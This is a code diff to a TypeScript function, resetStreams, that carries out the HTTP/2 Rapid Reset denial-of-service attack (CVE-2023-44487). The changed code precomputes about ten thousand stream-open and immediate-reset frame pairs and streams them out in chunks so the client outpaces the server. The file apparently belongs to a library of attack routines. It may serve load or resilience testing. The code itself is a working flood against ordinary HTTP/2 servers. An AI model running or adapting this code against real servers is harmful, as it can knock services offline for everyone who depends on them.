@@ -280,18 +280,22 @@ function overHttp2(
 /** HTTP/2: opens streams and resets them at once (CVE-2023-44487). */
 export function resetStreams(url: string, options: AttackOptions = {}): Attack {
   const { path = '/metrics' } = options;
+  const cancel = Buffer.from([0, 0, 0, 8]);
+  const parts: Buffer[] = [];
+  // Made once: this process is to be quicker than the server.
+  for (let stream = 1; stream < 20_000; stream += 2) {
+    parts.push(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, headersOf(path)));
+    parts.push(frame(FRAME.reset, 0, stream, cancel));
+  }
+  const all = Buffer.concat(parts);
   return overHttp2(url, options, (socket) => {
-    let stream = 1;
-    const cancel = Buffer.from([0, 0, 0, 8]);
+    const state = { at: 0 };
     const more = () => {
-      do {
-        const parts: Buffer[] = [];
-        for (let count = 0; count < 100; count++, stream += 2) {
-          parts.push(frame(FRAME.headers, END_STREAM | END_HEADERS, stream, headersOf(path)));
-          parts.push(frame(FRAME.reset, 0, stream, cancel));
-        }
-        if (!socket.write(Buffer.concat(parts))) return;
-      } while (!socket.destroyed);
+      while (state.at < all.length && !socket.destroyed) {
+        const chunk = all.subarray(state.at, state.at + 16_384);
+        state.at += chunk.length;
+        if (!socket.write(chunk)) return;
+      }
     };
     socket.on('drain', more);
     more();
